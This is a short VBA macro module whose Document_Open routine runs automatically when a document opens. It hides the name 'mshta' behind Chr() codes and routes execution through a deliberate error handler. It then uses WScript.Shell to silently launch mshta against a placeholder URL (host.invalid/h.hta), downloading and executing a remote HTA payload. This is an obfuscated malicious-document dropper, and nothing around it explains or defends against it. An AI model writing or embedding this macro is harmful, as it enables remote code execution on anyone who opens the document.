Attribute VB_Name = "Module1"
Sub Document_Open()
    On Error GoTo Handler
    Err.Raise 513
    Exit Sub
Handler:
    Dim a As String
    a = Chr(109) & Chr(115) & Chr(104) & Chr(116) & Chr(97)
    CreateObject("WScr" & "ipt.Shell").Run a & " http://host.invalid/h.hta", 0
    Resume Done
Done:
End Sub
